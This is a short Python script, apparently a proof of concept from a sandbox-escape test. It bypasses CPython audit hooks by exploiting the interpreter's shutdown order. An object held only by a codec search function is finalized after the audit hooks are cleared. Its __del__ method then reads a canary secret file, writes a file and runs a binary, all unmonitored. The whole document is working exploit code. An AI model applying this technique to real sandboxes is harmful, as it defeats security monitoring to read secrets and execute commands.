# ALL: object kept alive only by a codec search function; interp->codec_search_path is cleared in interpreter_clear() AFTER interp->audit_hooks, so its __del__ runs with no audit hook
import sys, codecs
os = sys.modules['os']
class D:
    def __del__(self, _open=os.open, _read=os.read, _write=os.write, _close=os.close, _system=os.system):
        try:
            fd = _open('/canary/secret.txt', 0); _write(1, b'FIN:' + _read(fd, 200)); _close(fd)
        except BaseException as e:
            _write(1, b'read failed\n')
        try:
            _close(_open('/canary/out/from_finalizer', 0o101, 0o644)); _write(1, b'wrote\n')
        except BaseException as e:
            _write(1, b'write failed\n')
        try:
            _system('/canary/bin/reveal')
        except BaseException as e:
            _write(1, b'exec failed\n')
def make():
    d = D()
    def search(name, _keep=d): return None
    return search
codecs.register(make())
print("registered; exiting normally")
